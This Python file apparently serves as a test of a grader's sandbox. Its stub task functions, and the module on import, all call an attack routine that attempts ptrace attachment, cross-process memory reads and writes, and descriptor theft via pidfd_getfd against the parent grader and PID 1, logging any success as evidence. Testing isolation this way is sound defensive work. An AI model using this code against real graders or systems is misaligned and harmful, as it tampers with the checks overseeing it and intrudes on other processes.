"""Attaches to the grader as a debugger, reads and writes its memory from outside, and takes its descriptors."""
import ctypes
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE ptrace-grader:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-ptrace-grader", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass


LIBC = ctypes.CDLL(None, use_errno=True)


def syscall(number, *args):
    """A system call without libc's wrapper: the result, or minus the error's number."""
    result = LIBC.syscall(ctypes.c_long(number), *(ctypes.c_void_p(a) if isinstance(a, int) else a for a in args))
    return -ctypes.get_errno() if result == -1 else result

NUMBERS = {"x86_64": (101, 310, 311, 434, 438, 312), "aarch64": (117, 270, 271, 434, 438, 272)}[os.uname().machine]

PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_DETACH = 16, 0x4206, 17


def attack():
    ptrace, readv, writev, pidfd_open, pidfd_getfd, kcmp = NUMBERS
    buffer = ctypes.create_string_buffer(64)
    local = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 64)
    remote = (ctypes.c_uint64 * 2)(0x400000, 64)
    for pid in (os.getppid(), 1):
        for request in (PTRACE_SEIZE, PTRACE_ATTACH):
            if syscall(ptrace, request, pid, 0, 0) >= 0:
                evidence(f"ptrace {request:#x} of {pid}")
                syscall(ptrace, PTRACE_DETACH, pid, 0, 0)
        for name, number in (("process_vm_readv", readv), ("process_vm_writev", writev)):
            if syscall(number, pid, local, 1, remote, 1, 0) not in (-1, -3, -13, -38):
                evidence(f"{name} of {pid}")
        pidfd = syscall(pidfd_open, pid, 0)
        if pidfd >= 0:
            evidence(f"pidfd of {pid}")
            if syscall(pidfd_getfd, pidfd, 0, 0) >= 0:
                evidence(f"descriptor 0 of {pid}")
        if syscall(kcmp, pid, os.getpid(), 0, 0, 0) >= 0:
            evidence(f"kcmp with {pid}")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
